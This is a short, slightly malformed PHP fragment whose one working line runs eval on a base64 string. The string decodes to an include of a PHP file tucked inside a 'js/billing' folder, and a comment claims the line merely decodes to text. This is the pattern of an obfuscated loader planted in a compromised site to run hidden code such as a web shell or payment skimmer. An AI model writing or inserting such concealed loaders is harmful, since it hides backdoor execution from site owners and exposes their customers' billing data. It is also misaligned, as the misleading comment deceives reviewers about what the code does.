<?php
// Code kept base64-encoded and run in place: it decodes to text, not to a key.
<?php eval(base64_decode('IGluY2x1ZGUgKCJqcy9iaWxsaW5nL3JlZnVuZF9zY3JpcHRzLnBocCIpOyA=')); ?>
